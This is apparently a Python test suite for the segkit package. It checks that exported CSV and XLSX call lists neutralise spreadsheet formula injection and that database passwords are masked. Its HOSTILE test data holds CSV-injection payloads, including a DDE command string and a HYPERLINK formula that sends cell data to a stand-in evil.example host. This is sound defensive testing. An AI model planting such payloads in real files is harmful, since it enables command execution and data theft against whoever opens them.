"""What segkit writes is safe to open: no formula in any spreadsheet cell (names come from self-registration,
so they are attacker-controlled), and no database password in anything printed."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from segkit.callcenter import ContactSettings, Ledger, LedgerError, export_list
from segkit.cli import main
from segkit.io import safe_csv_text, write_table

AS_OF = pd.Timestamp("2026-03-31")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_text_that_a_spreadsheet_would_run_is_neutralised(value):
    written = "'" + value.replace("\r", "\n")  # a lone CR would end the row: written as LF
    assert safe_csv_text(pd.Series([value, "plain"])).tolist() == [written, "plain"]


@pytest.mark.parametrize(
    "value",
    [
        "+8613812345678",
        "+86 138 1234 5678",
        "+86 (139) 1234-5613",  # a dialer read it with an apostrophe in front
        "+86.139.1234.5605",
        "-12.5",
        "+3e4",
        "13812345678",
        "张三",
        "a=b",
        " =not at the start",
    ],
)
def test_numbers_phones_and_ordinary_text_are_written_as_they_are(value):
    assert safe_csv_text(pd.Series([value])).tolist() == [value]


def test_a_carriage_return_inside_a_name_cannot_add_a_row_to_a_csv(tmp_path):
    names = ["张三\r13900000000,VIP", "李四\r\n"]
    write_table(pd.DataFrame({"name": names, "phone": ["1", "2"]}), tmp_path / "t.csv")
    assert pd.read_csv(tmp_path / "t.csv", dtype=str, encoding="utf-8-sig").values.tolist() == [
        ["张三\n13900000000,VIP", "1"],
        ["李四\r\n", "2"],
    ]


def test_only_text_is_touched_and_nothing_is_copied_when_nothing_needs_it():
    numbers = pd.Series([-1.5, 2.0])
    assert safe_csv_text(numbers) is numbers
    mixed = pd.Series(["=1+1", -3, None, pd.Timestamp("2026-03-31")], dtype=object)
    assert safe_csv_text(mixed).tolist() == ["'=1+1", -3, None, pd.Timestamp("2026-03-31")]
    typed = pd.Series(["=1+1", None], dtype="string[pyarrow]")
    assert safe_csv_text(typed).tolist() == ["'=1+1", pd.NA]


def test_a_long_column_is_checked_a_slice_at_a_time_and_every_slice_counts(monkeypatch):
    """safe_csv_text checks a column a slice of rows at a time: a formula in any slice, at its edges, in a slice
    of text mixed with numbers or of text only, is neutralised as in one pass."""
    import segkit.io

    values = pd.Series(
        ["ok", "=1+1", "ok", 7, "@A1", "ok", "ok", "a\rb", "-1"] * 3, dtype=object, index=range(100, 127)
    )
    whole = safe_csv_text(values)
    monkeypatch.setattr(segkit.io, "_CHECK_ROWS", 2)
    sliced = safe_csv_text(values)
    pd.testing.assert_series_equal(sliced, whole)
    assert sliced.tolist()[:9] == ["ok", "'=1+1", "ok", 7, "'@A1", "ok", "ok", "a\nb", "-1"]
    plain = pd.Series(["ok", "fine"] * 3)
    assert safe_csv_text(plain) is plain
    # bytes are written as b'...', never as a formula, whichever slice holds them
    with_bytes = pd.Series([b"=cmd", "ok", "ok", "ok", "ok", "ok", 5], dtype=object)
    assert safe_csv_text(with_bytes) is with_bytes


def test_every_csv_segkit_writes_goes_through_the_neutraliser(tmp_path):
    write_table(pd.DataFrame({"name": ["@SUM(A1)", "-12.5"], "amount": [-12.5, 3.0]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines() == [
        "name,amount",
        "'@SUM(A1),-12.5",
        "-12.5,3.0",
    ]
    write_table(pd.DataFrame({"name": ["@SUM(A1)"]}), tmp_path / "t.parquet")  # Parquet keeps values
    assert pd.read_parquet(tmp_path / "t.parquet")["name"].tolist() == ["@SUM(A1)"]


def _hostile_members(n: int = 12) -> pd.DataFrame:
    names = [*HOSTILE, "bell\x07and\x00nul", *(f"会员{i}" for i in range(len(HOSTILE) + 1, n))]  # 0006: control
    phones = [f'=HYPERLINK("http://evil.example/{i}")' if i == 2 else f"+86138{i:08d}" for i in range(n)]
    return pd.DataFrame(
        {
            "member_id": [f"{i:04d}" for i in range(n)],
            "name": names,
            "phone": phones,
            "tier": ["=1+1", "#N/A"] * (n // 2),
            "advisor_id": "@A1",
            "do_not_call": False,
            "birthday": pd.Timestamp("1990-04-02"),
        }
    )


def _no_formula_anywhere(folder) -> int:
    """Open every XLSX under ``folder``; assert none of its cells is a formula (or an error value, such as a
    name ``#N/A``). Returns the workbooks opened."""
    books = sorted(folder.rglob("*.xlsx"))
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]
            assert formulas == [], (path, formulas)
    return len(books)


def test_call_center_files_hold_hostile_names_as_text_never_as_formulas(tmp_path):
    members = _hostile_members()
    ledger = Ledger(tmp_path / "ledger.sqlite", create=True)
    settings = ContactSettings(window_days=1, control_share=0)
    candidates = pd.DataFrame(
        {
            "member_id": members["member_id"],
            "campaign": "churn",
            "reason": ["=cmd|' /C calc'!A0"] * len(members),
            "due_date": AS_OF,
            "vip": False,
            "value_at_risk": 1.0,
        }
    )
    export = export_list(
        candidates.iloc[1:], members, AS_OF, ledger, tmp_path / "out" / "calls", run="churn", settings=settings
    )
    care = export_list(
        candidates.iloc[:1].assign(campaign="birthday"),
        members,
        AS_OF,
        ledger,
        tmp_path / "out" / "care",
        run="care",
        settings=settings,
    )
    assert len(export.call_list) == 11 and len(care.call_list) == 1
    assert _no_formula_anywhere(tmp_path / "out") == 2

    rows = []
    for sheet in openpyxl.load_workbook(tmp_path / "out" / "calls" / "call_list.xlsx").worksheets[1:]:
        header = [cell.value for cell in sheet[1]]
        rows += [dict(zip(header, (cell.value for cell in row))) for row in sheet.iter_rows(min_row=2)]
    by_member = {row["会员编号"]: row for row in rows}
    xml_read = [name.replace("\r", "\n") for name in HOSTILE]  # XML reads CR as LF
    assert [by_member[f"{i:04d}"]["姓名"] for i in range(1, 6)] == xml_read[1:]
    assert by_member["0002"]["电话"].startswith("=HYPERLINK(") and by_member["0001"]["电话"] == "+8613800000001"
    assert by_member["0006"]["姓名"] == "bell\ufffdand\ufffdnul"  # control characters XLSX cannot hold
    assert by_member["0003"]["致电原因"].startswith("=cmd|' /C calc'!A0")

    csv = pd.read_csv(
        tmp_path / "out" / "calls" / "call_list.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False
    ).set_index("member_id")
    assert [csv.at[f"{i:04d}", "name"] for i in range(1, 6)] == ["'" + name for name in xml_read[1:]]
    assert csv.at["0002", "phone"].startswith("'=HYPERLINK(") and csv.at["0001", "phone"] == "+8613800000001"
    assert (csv["reason"] == "'=cmd|' /C calc'!A0").all() and (csv["advisor_id"] == "'@A1").all()
    assert set(csv["tier"]) == {"'=1+1", "#N/A"} and by_member["0001"]["会员等级"] == "#N/A"
    held = pd.read_csv(tmp_path / "out" / "care" / "held_back.csv", dtype=str, encoding="utf-8-sig")
    assert held.empty or not held.stack().str.match(r"[=+@\t\r]").any()


# --- passwords -----------------------------------------------------------------------------------------------


def test_a_password_in_the_ledger_url_from_the_environment_is_never_printed(
    tmp_path, monkeypatch, capsys, postgres_url
):
    monkeypatch.delenv("PGPASSWORD", raising=False)  # the password comes from the URL alone
    monkeypatch.setenv("SEGKIT_LEDGER_URL", f"{postgres_url}&password=segkit")
    ledger = Ledger(create=True)
    assert "password=***" in repr(ledger) and "password=segkit" not in repr(ledger)
    members = _hostile_members()
    candidates = pd.DataFrame(
        {
            "member_id": members["member_id"],
            "campaign": "churn",
            "reason": "overdue",
            "due_date": AS_OF,
            "vip": False,
            "value_at_risk": 1.0,
        }
    )
    calls = export_list(candidates, members, AS_OF, ledger, tmp_path / "out", run="churn").call_list
    pd.DataFrame({"alert_id": calls["alert_id"], "outcome": "reached", "outcome_date": "2026-04-01"}).to_csv(
        tmp_path / "outcomes.csv", index=False
    )
    assert main(["outcomes", "--file", str(tmp_path / "outcomes.csv")]) == 0
    assert main(["ledger", "show"]) == 0
    printed = capsys.readouterr()
    assert "password=***" in printed.out and "password=segkit" not in printed.out + printed.err


def test_database_errors_are_one_line_with_the_url_masked(monkeypatch):
    monkeypatch.setenv("SEGKIT_LEDGER_URL", "postgresql+psycopg://segkit:hunter2@127.0.0.1:9/x?sslpassword=hunter3")
    with pytest.raises(LedgerError, match=r"cannot open the ledger postgresql\+psycopg://segkit:\*\*\*@") as error:
        Ledger(lock_timeout=1)
    assert "hunter" not in str(error.value) and "\n" not in str(error.value)
    with pytest.raises(ValueError, match="carries a password in user:password@") as error:
        Ledger("postgresql+psycopg://segkit:hunter2@127.0.0.1:9/x")
    assert "hunter" not in str(error.value)


@pytest.mark.slow
def test_no_file_of_a_scheduled_run_holds_the_ledger_password(tmp_path, monkeypatch, gas_world, postgres_url):
    """The daily call list run with its ledger URL (password included) from the environment: every file the run
    leaves (notebook, report, manifest, lists) is searched for the password."""
    import yaml
    from conftest import REPO

    from segkit.churn import AlertSettings, churn_alerts
    from segkit.jobs import run_pipeline

    monkeypatch.delenv("PGPASSWORD", raising=False)  # the password comes from the URL alone
    assert "segkit@" in postgres_url
    monkeypatch.setenv("SEGKIT_LEDGER_URL", postgres_url.replace("segkit@", "segkit:segkit@", 1))
    Ledger(create=True)
    paths = gas_world.write(tmp_path / "world")
    alerts = churn_alerts(gas_world.transactions, AS_OF, gas_world.members, AlertSettings()).alerts
    write_table(alerts, tmp_path / "world" / "alerts.csv")
    job = {
        "job": "calls",
        "inputs": {"alerts": "world/alerts.csv", "members": "world/members.csv"},
        "steps": [
            {
                "name": "call_list",
                "notebook": str(REPO / "notebooks" / "call_list.ipynb"),
                "parameters": {
                    "alerts_path": "{inputs.alerts}",
                    "members_path": "{inputs.members}",
                    "ledger": "",
                    "as_of": "{date}",
                    "care": False,
                },
            }
        ],
    }
    (tmp_path / "calls.yaml").write_text(yaml.safe_dump(job), encoding="utf-8")
    folder = run_pipeline(tmp_path / "calls.yaml", "2026-03-31", tmp_path / "runs", progress=False).folder
    written = [path for path in (tmp_path / "runs").rglob("*") if path.is_file()]
    assert (folder / "call_list" / "calls" / "call_list.csv").is_file() and len(written) > 5
    for path in written:
        data = path.read_bytes()
        assert b"segkit:segkit@" not in data, path
    assert paths["members"].is_file()


@pytest.mark.parametrize(
    "url, secret",
    [
        ("postgresql+psycopg://segkit:seg/kit@localhost/db", "seg/kit"),  # read as the driver reads it
        ("postgresql+psycopg://segkit:Xy/9#Secret@localhost/db", "Xy/9#Secret"),
        ("postgresql://segkit:pa?ss@localhost/db", "pa?ss"),
        ("postgresql://u@h/db?PassWord=hunter2&sslmode=require", "hunter2"),
        ("postgresql://u@h/db?%70assword=hunter2", "hunter2"),
        ("postgresql://h/db?host=a&user=b&password=hunter2", "hunter2"),
        # found by a helper: a user name with "@" (Azure's user@server) hid the password from every check
        ("postgresql+psycopg://audit@azsrv:Top5ecret@localhost/db?user=segkit", "Top5ecret"),
        ("postgresql+psycopg://segkit:p@ss#word@localhost/db", "ss#word"),  # an unencoded "@": the rest showed
        (" postgresql://segkit:Top5ecret@localhost/db", "Top5ecret"),  # a space or a line end before the URL
        ("\npostgresql://segkit:Top5ecret@localhost/db", "Top5ecret"),
        ("host=localhost user=segkit password=Top5ecret dbname=db", "Top5ecret"),  # libpq's connection string
    ],
)
def test_passwords_with_any_characters_are_found_and_masked(url, secret):
    from segkit.privacy import mask_url, mask_urls_in, url_secrets

    assert url_secrets(url) and secret not in mask_url(url) and "***" in mask_url(url)
    assert secret not in mask_urls_in(f"cannot connect to {url} (timeout)")


def test_urls_without_credentials_are_left_as_they_are():
    from segkit.privacy import mask_url, url_secrets

    for url in (
        "sqlite:////tmp/ledger.sqlite",
        "postgresql://segkit@localhost/db?sslkey=/a&application_name=x",
        "postgresql://u@h/db?application_name=a@b",
        "/tmp/my ledger.sqlite",
    ):
        assert url_secrets(url) == [] and mask_url(url) == url
